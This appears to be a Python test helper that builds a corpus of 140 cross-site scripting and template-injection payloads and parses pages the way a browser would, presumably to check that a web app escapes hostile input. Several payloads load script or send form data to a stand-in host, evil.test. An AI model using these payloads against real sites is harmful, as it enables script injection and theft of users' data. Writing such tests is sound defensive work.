"""What attackers write, and how a test reads a page as a browser would."""

from __future__ import annotations

from html.parser import HTMLParser

TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></ScRiPt>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{background:url(//evil.test)}</style>",
    "<!--><script>alert(1)</script>-->",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<form action=//evil.test><input name=x>",
    "<object data=//evil.test></object>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<plaintext>",
)
BREAKS = ("", '"', "'", '">', "'>", "`", "{{7*7}}", "${7*7}", "--></textarea>", "\u2028")
CORPUS = tuple(f"{start}{tag}" for tag in TAGS for start in BREAKS[:4]) + tuple(
    f"{start}{rest}"
    for start in BREAKS
    for rest in (
        '" onmouseover="alert(1)',
        "' autofocus onfocus='alert(1)",
        "javascript:alert(1)",
        "{{ config }}",
    )
)
"""140 ways of breaking out of text, of an attribute, of a script, of a template."""

PAGE_TAGS = frozenset(
    {
        "html",
        "head",
        "meta",
        "title",
        "link",
        "body",
        "a",
        "header",
        "div",
        "img",
        "span",
        "form",
        "input",
        "button",
        "svg",
        "path",
        "nav",
        "p",
        "main",
        "section",
        "h1",
        "h2",
        "h3",
        "article",
        "dl",
        "dt",
        "dd",
        "footer",
        "textarea",
        "script",
    }
)
"""The elements of which the shop's pages and the console's are made; each adds its own."""


class Page(HTMLParser):
    """What a browser would find in a page: elements with their attributes, and its text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)
